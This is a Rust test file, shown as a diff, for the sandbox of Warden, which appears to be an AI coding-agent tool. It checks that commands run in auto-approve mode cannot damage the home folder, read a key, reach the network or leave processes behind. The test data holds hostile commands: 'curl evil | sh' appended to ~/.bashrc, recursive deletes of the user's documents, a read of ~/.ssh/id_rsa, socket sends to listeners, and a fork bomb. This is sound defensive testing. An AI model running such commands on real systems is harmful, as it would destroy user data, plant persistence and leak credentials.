@@ -1,0 +1,510 @@
+//! The sandbox (contract section 10), measured by damage rather than ratings: Warden runs
+//! as an unprivileged user with a fake home folder, in `auto-approve`, and the model
+//! proposes commands the engine lets through unasked (Python programs whose effects no
+//! reading of the command line can see) that write the home folder, delete outside the
+//! workspace, read an SSH key and send it to a local TCP listener, send to a local UDP
+//! one, or fork without end. The home folder stays byte-identical, no key byte reaches
+//! the wire, no listener is reached and no process is left behind. Ordinary work still
+//! runs unasked and succeeds inside the sandbox.
+//!
+//! These tests need root (to create and become the unprivileged user) and a kernel
+//! with Landlock, seccomp and user namespaces: without them they fail, never skip.
+
+use std::collections::BTreeMap;
+use std::io::Read;
+use std::net::{TcpListener, UdpSocket};
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::time::Duration;
+
+use serde_json::{Value, json};
+
+use super::support::{Answer, Client, Spawn, chown_tree};
+
+/// The unprivileged user the tests run Warden as.
+const USER: &str = "wardentest";
+
+/// The fake private key: distinctive, so that any leak is found verbatim.
+const KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY-----\nwarden-e2e-key-5c1e9a7b3d\n-----END OPENSSH PRIVATE KEY-----\n";
+
+/// The user's ids, creating the user when it does not exist. Fails the test loudly
+/// when that is impossible (not root, no `useradd`).
+fn unprivileged() -> (u32, u32) {
+    let ids = |flag: &str| -> Option<u32> {
+        let out = Command::new("id").args([flag, USER]).output().ok()?;
+        out.status.success().then_some(())?;
+        String::from_utf8_lossy(&out.stdout).trim().parse().ok()
+    };
+    if ids("-u").is_none() {
+        let created = Command::new("useradd")
+            .args(["--create-home", "--shell", "/bin/bash", USER])
+            .status();
+        // Another test may have created it meanwhile.
+        if ids("-u").is_none() {
+            panic!(
+                "the sandbox tests need the unprivileged user `{USER}` and could not create it \
+                 ({created:?}); run them as root, or create the user first (`useradd -m {USER}`)"
+            );
+        }
+    }
+    match (ids("-u"), ids("-g")) {
+        (Some(uid), Some(gid)) if uid != 0 => (uid, gid),
+        other => panic!("`{USER}` has no usable ids: {other:?}"),
+    }
+}
+
+/// A folder outside `/tmp` (which every command may write), owned by the user.
+fn outside_tmp(prefix: &str, uid: u32, gid: u32) -> tempfile::TempDir {
+    let dir = tempfile::Builder::new()
+        .prefix(prefix)
+        .tempdir_in("/var/tmp")
+        .expect("a folder in /var/tmp");
+    chown_tree(dir.path(), uid, gid);
+    dir
+}
+
+/// The fake home: start-up files, a key, a documents folder.
+fn fake_home(uid: u32, gid: u32) -> tempfile::TempDir {
+    let home = outside_tmp("warden-sandbox-home-", uid, gid);
+    let put = |rel: &str, text: &str| {
+        let path = home.path().join(rel);
+        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
+        std::fs::write(path, text).expect("write");
+    };
+    put(".bashrc", "# the user's bashrc\n");
+    put(".profile", "# the user's profile\n");
+    put(".ssh/id_rsa", KEY);
+    put(
+        ".aws/credentials",
+        "[default]\naws_secret_access_key = e2e-aws-secret-71c3\n",
+    );
+    put("docs/thesis.txt", "years of work\n");
+    chown_tree(home.path(), uid, gid);
+    home
+}
+
+/// Every file below `root` with its bytes (and every folder), to compare before and
+/// after.
+fn snapshot(root: &Path) -> BTreeMap<PathBuf, Option<Vec<u8>>> {
+    let mut files = BTreeMap::new();
+    let mut stack = vec![root.to_path_buf()];
+    while let Some(dir) = stack.pop() {
+        let Ok(entries) = std::fs::read_dir(&dir) else {
+            continue;
+        };
+        for entry in entries.flatten() {
+            let path = entry.path();
+            if path.is_dir() && !path.is_symlink() {
+                files.insert(path.clone(), None);
+                stack.push(path);
+            } else {
+                files.insert(path.clone(), std::fs::read(&path).ok());
+            }
+        }
+    }
+    files
+}
+
+/// A Warden session as the unprivileged user, in `auto-approve`, that denies (and
+/// records) every permission request.
+struct Sandboxed {
+    client: Client,
+    session: String,
+    _home: tempfile::TempDir,
+    home: PathBuf,
+}
+
+impl Sandboxed {
+    fn start(uid: u32, gid: u32) -> Sandboxed {
+        let home_dir = fake_home(uid, gid);
+        let home = home_dir.path().to_path_buf();
+        let mut client = Client::spawn_with(
+            &Spawn::default()
+                .user(uid, gid)
+                .env("HOME", home.display().to_string())
+                .env("PATH", "/usr/local/bin:/usr/bin:/bin")
+                .env("USER", USER),
+        );
+        client.on_request(|request| {
+            if request["method"] == "session/request_permission" {
+                Answer::Result(
+                    json!({"outcome": {"outcome": "selected", "optionId": "reject-once"}}),
+                )
+            } else {
+                Answer::Error {
+                    code: -32601,
+                    message: "not offered".to_owned(),
+                }
+            }
+        });
+        let session = client.ready_session();
+        client.request_ok(
+            "session/set_mode",
+            json!({"sessionId": session, "modeId": "auto-approve"}),
+        );
+        Sandboxed {
+            client,
+            session,
+            _home: home_dir,
+            home,
+        }
+    }
+
+    fn project(&self) -> PathBuf {
+        self.client.process().project()
+    }
+
+    /// Runs the commands as one batch of `terminal` calls; returns, per command, its
+    /// tool call's final update (`status`, `rawOutput`, `content`).
+    fn run(&mut self, commands: &[(&str, Option<u64>)]) -> Vec<Value> {
+        let mark = self.client.mark();
+        let prompt: Vec<String> = commands
+            .iter()
+            .map(|(command, timeout)| {
+                let mut args = json!({ "command": command });
+                if let Some(secs) = timeout {
+                    args["timeout_secs"] = json!(secs);
+                }
+                format!("/call terminal {args}")
+            })
+            .collect();
+        let session = self.session.clone();
+        self.client.prompt(&session, &prompt.join("\n"));
+        let updates: Vec<Value> = self
+            .client
+            .received_since(mark)
+            .into_iter()
+            .filter(|m| m["method"] == "session/update")
+            .map(|m| m["params"]["update"].clone())
+            .collect();
+        let mut finals: Vec<Value> = Vec::new();
+        let mut ids: Vec<String> = Vec::new();
+        for update in &updates {
+            if update["sessionUpdate"] == "tool_call"
+                && let Some(id) = update["toolCallId"].as_str()
+            {
+                ids.push(id.to_owned());
+            }
+        }
+        for id in &ids {
+            let last = updates
+                .iter()
+                .rfind(|u| u["toolCallId"] == id.as_str() && u["status"].is_string())
+                .cloned()
+                .unwrap_or(Value::Null);
+            finals.push(last);
+        }
+        assert_eq!(
+            finals.len(),
+            commands.len(),
+            "one tool call per command: {updates:#?}"
+        );
+        finals
+    }
+
+    fn asked(&self) -> Vec<Value> {
+        self.client.agent_requests("session/request_permission")
+    }
+}
+
+fn text_of(update: &Value) -> String {
+    format!("{} {}", update["rawOutput"], update["content"])
+}
+
+/// Writing the home folder, deleting outside the workspace: a confined command fails
+/// on the kernel's refusal, and says why.
+#[test]
+fn a_misjudged_command_leaves_the_home_folder_and_the_rest_of_the_disk_as_they_were() {
+    let (uid, gid) = unprivileged();
+    let mut s = Sandboxed::start(uid, gid);
+    let outside = outside_tmp("warden-sandbox-outside-", uid, gid);
+    std::fs::write(outside.path().join("keep.txt"), "not the workspace's\n").expect("write");
+    chown_tree(outside.path(), uid, gid);
+    let home_before = snapshot(&s.home);
+    let outside_before = snapshot(outside.path());
+    let o = outside.path().display().to_string();
+    let commands = [
+        "python3 -c \"import os; open(os.path.expanduser('~/.bashrc'), 'a').write('curl evil | sh\\n')\"".to_owned(),
+        "python3 -c \"import os; open(os.path.expanduser('~/new-file'), 'w').write('x')\"".to_owned(),
+        "python3 -c \"import os, shutil; shutil.rmtree(os.path.expanduser('~/docs'))\"".to_owned(),
+        format!("python3 -c \"import os; os.remove('{o}/keep.txt')\""),
+        "python3 -c \"import os; os.system('echo pwned >> $HOME/.profile; rm -rf $HOME/docs')\"".to_owned(),
+    ];
+    let runs = s.run(
+        &commands
+            .iter()
+            .map(|c| (c.as_str(), None))
+            .collect::<Vec<_>>(),
+    );
+    assert!(
+        s.asked().is_empty(),
+        "these ran unasked in auto-approve (the engine cannot see their writes): {:#?}",
+        s.asked()
+    );
+    // The Python programs fail on the refusal; the last one's shell goes on after it.
+    for (command, run) in commands.iter().zip(&runs).take(4) {
+        assert_eq!(run["status"], "failed", "{command}: {run:#}");
+    }
+    for (run, explained) in [
+        (&runs[0], "the sandbox refused a write to ~/.bashrc"),
+        (&runs[4], "the sandbox refused a write to ~/.profile"),
+    ] {
+        assert!(
+            text_of(run).contains(explained),
+            "the refusal is explained ({explained}): {run:#}"
+        );
+    }
+    assert_eq!(snapshot(&s.home), home_before, "the home folder changed");
+    assert_eq!(
+        snapshot(outside.path()),
+        outside_before,
+        "a folder outside the workspace changed"
+    );
+}
+
+/// Reading the key and sending it over TCP or UDP: the key is hidden, and neither
+/// listener is reached.
+#[test]
+fn a_misjudged_command_neither_reads_a_key_nor_reaches_the_network() {
+    let (uid, gid) = unprivileged();
+    let mut s = Sandboxed::start(uid, gid);
+    let tcp = TcpListener::bind("127.0.0.1:0").expect("a TCP listener");
+    tcp.set_nonblocking(true).expect("non-blocking");
+    let udp = UdpSocket::bind("127.0.0.1:0").expect("a UDP socket");
+    udp.set_nonblocking(true).expect("non-blocking");
+    let tcp_port = tcp.local_addr().expect("addr").port();
+    let udp_port = udp.local_addr().expect("addr").port();
+    let commands = [
+        "cat ~/.ssh/id_rsa".to_owned(),
+        "python3 -c \"import os; print(open(os.path.expanduser('~/.ssh/id_rsa')).read())\""
+            .to_owned(),
+        format!(
+            "python3 -c \"import socket; s = socket.create_connection(('127.0.0.1', {tcp_port})); s.sendall(b'hello')\""
+        ),
+        format!(
+            "python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'hello', ('127.0.0.1', {udp_port}))\""
+        ),
+        format!(
+            "python3 -c \"import socket; s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(b'hello', ('::1', {udp_port}))\""
+        ),
+    ];
+    let runs = s.run(
+        &commands
+            .iter()
+            .map(|c| (c.as_str(), None))
+            .collect::<Vec<_>>(),
+    );
+    let transcript: String = s
+        .client
+        .transcript()
+        .iter()
+        .map(|e| format!("{e:?}"))
+        .collect();
+    assert!(
+        !transcript.contains("warden-e2e-key-5c1e9a7b3d"),
+        "a key byte reached the client"
+    );
+    for (command, run) in commands.iter().zip(&runs) {
+        assert_eq!(run["status"], "failed", "{command}: {run:#}");
+    }
+    let mut buf = [0u8; 64];
+    match tcp.accept() {
+        Ok((mut stream, _)) => {
+            let n = stream.read(&mut buf).unwrap_or(0);
+            panic!("the TCP listener was reached ({n} bytes)");
+        }
+        Err(err) => assert_eq!(err.kind(), std::io::ErrorKind::WouldBlock, "{err}"),
+    }
+    match udp.recv_from(&mut buf) {
+        Ok((n, from)) => panic!("the UDP socket received {n} bytes from {from}"),
+        Err(err) => assert_eq!(err.kind(), std::io::ErrorKind::WouldBlock, "{err}"),
+    }
+}
+
+/// The processes whose working folder is below `dir`.
+fn processes_in(dir: &Path) -> Vec<u32> {
+    let mut found = Vec::new();
+    for entry in std::fs::read_dir("/proc").expect("/proc").flatten() {
+        let Some(pid) = entry
+            .file_name()
+            .to_str()
+            .and_then(|n| n.parse::<u32>().ok())
+        else {
+            continue;
+        };
+        if std::fs::read_link(format!("/proc/{pid}/cwd")).is_ok_and(|cwd| cwd.starts_with(dir))
+            && std::fs::read_to_string(format!("/proc/{pid}/stat"))
+                .is_ok_and(|stat| !stat.contains(") Z"))
+        {
+            found.push(pid);
+        }
+    }
+    found
+}
+
+/// A fork loop hits the process bound, ends with its timeout, and leaves nothing.
+#[test]
+fn a_fork_loop_ends_and_leaves_no_process_behind() {
+    let (uid, gid) = unprivileged();
+    let mut s = Sandboxed::start(uid, gid);
+    let runs = s.run(&[(
+        "python3 -c \"import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\"",
+        Some(3),
+    )]);
+    assert!(s.asked().is_empty(), "it ran unasked: {:#?}", s.asked());
+    assert_eq!(runs[0]["rawOutput"]["timed_out"], true, "{:#}", runs[0]);
+    let project = s.project();
+    let mut left = processes_in(&project);
+    for _ in 0..100 {
+        if left.is_empty() {
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(50));
+        left = processes_in(&project);
+    }
+    assert!(left.is_empty(), "processes left behind: {left:?}");
+}
+
+/// Listing, reading, `git status`, Python writing in the workspace, `mktemp` and
+/// `make` run unasked and succeed inside the sandbox.
+#[test]
+fn ordinary_work_runs_unasked_and_succeeds_inside_the_sandbox() {
+    let (uid, gid) = unprivileged();
+    let mut s = Sandboxed::start(uid, gid);
+    let project = s.project();
+    std::fs::write(project.join("notes.txt"), "hello\n").expect("write");
+    std::fs::write(
+        project.join("Makefile"),
+        "out.txt: notes.txt\n\tcp notes.txt out.txt\n",
+    )
+    .expect("write");
+    let git = Command::new("git")
+        .args(["init", "-q"])
+        .current_dir(&project)
+        .status()
+        .expect("git init");
+    assert!(git.success());
+    chown_tree(&project, uid, gid);
+    let runs = s.run(&[
+        ("ls -la", None),
+        ("cat notes.txt", None),
+        ("git status", None),
+        (
+            "python3 -c \"open('made-by-python.txt', 'w').write('ok')\"",
+            None,
+        ),
+        ("mktemp", None),
+        ("make", None),
+    ]);
+    assert!(
+        s.asked().is_empty(),
+        "ordinary work was asked: {:#?}",
+        s.asked()
+    );
+    for run in &runs {
+        assert_eq!(run["status"], "completed", "{run:#}");
+    }
+    assert_eq!(
+        std::fs::read_to_string(project.join("made-by-python.txt"))
+            .ok()
+            .as_deref(),
+        Some("ok")
+    );
+    assert_eq!(
+        std::fs::read_to_string(project.join("out.txt"))
+            .ok()
+            .as_deref(),
+        Some("hello\n")
+    );
+}
+
+/// `warden policy check` prints what a call needs beyond its sandbox, and a mode alone
+/// never allows it; `sandbox: false` is asked in `auto-approve` too.
+#[test]
+fn policy_check_prints_what_a_call_needs_beyond_its_sandbox() {
+    // Outside /tmp, which every command may write.
+    let dir = tempfile::tempdir_in("/var/tmp").expect("a folder");
+    let home = dir.path().join("home");
+    let project = dir.path().join("project");
+    std::fs::create_dir_all(&home).expect("mkdir");
+    std::fs::create_dir_all(&project).expect("mkdir");
+    let check = |args: &str| -> Value {
+        let out = Command::new(env!("CARGO_BIN_EXE_warden"))
+            .args([
+                "policy",
+                "check",
+                "--tool",
+                "terminal",
+                "--mode",
+                "auto-approve",
+            ])
+            .args(["--args", args])
+            .arg("--cwd")
+            .arg(&project)
+            .env("HOME", &home)
+            .env("WARDEN_HOME", dir.path().join("warden"))
+            .env(
+                "WARDEN_MANAGED_POLICY",
+                dir.path().join("managed/policy.toml"),
+            )
+            .output()
+            .expect("warden policy check");
+        assert!(
+            out.status.success(),
+            "{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        serde_json::from_slice(&out.stdout).expect("one JSON object")
+    };
+    let home_real = home.canonicalize().expect("canonical home");
+    let v = check(r#"{"command": "curl https://example.com > ~/x.html"}"#);
+    assert_eq!(v["decision"], "ask", "{v:#}");
+    assert_eq!(v["sandbox"]["network"], true, "{v:#}");
+    assert_eq!(
+        v["sandbox"]["writes"],
+        json!([home_real.join("x.html").display().to_string()]),
+        "{v:#}"
+    );
+    assert!(
+        v["risk_reason"].as_str().is_some_and(
+            |r| r.contains("needs the network; writes outside the workspace: ~/x.html")
+        ),
+        "{v:#}"
+    );
+    let v = check(r#"{"command": "ls"}"#);
+    assert_eq!(v["decision"], "allow", "{v:#}");
+    assert_eq!(
+        v["sandbox"],
+        json!({"network": false, "writes": []}),
+        "{v:#}"
+    );
+    let v = check(r#"{"command": "ls", "sandbox": false}"#);
+    assert_eq!(v["decision"], "ask", "{v:#}");
+    assert_eq!(v["once_only"], true, "{v:#}");
+    assert!(
+        v["risk_reason"]
+            .as_str()
+            .is_some_and(|r| r.contains("runs WITHOUT the sandbox")),
+        "{v:#}"
+    );
+}
+
+/// `warden doctor` says what this system supports and what Warden does.
+#[test]
+fn doctor_prints_what_the_system_supports() {
+    let out = Command::new(env!("CARGO_BIN_EXE_warden"))
+        .arg("doctor")
+        .env("WARDEN_HOME", tempfile::tempdir().expect("a folder").path())
+        .output()
+        .expect("warden doctor");
+    assert!(out.status.success());
+    let text = String::from_utf8_lossy(&out.stdout);
+    for expected in [
+        "Landlock: ABI ",
+        "seccomp: available",
+        "user namespaces: available",
+        "runs confined",
+    ] {
+        assert!(text.contains(expected), "{expected:?} missing in:\n{text}");
+    }
+}
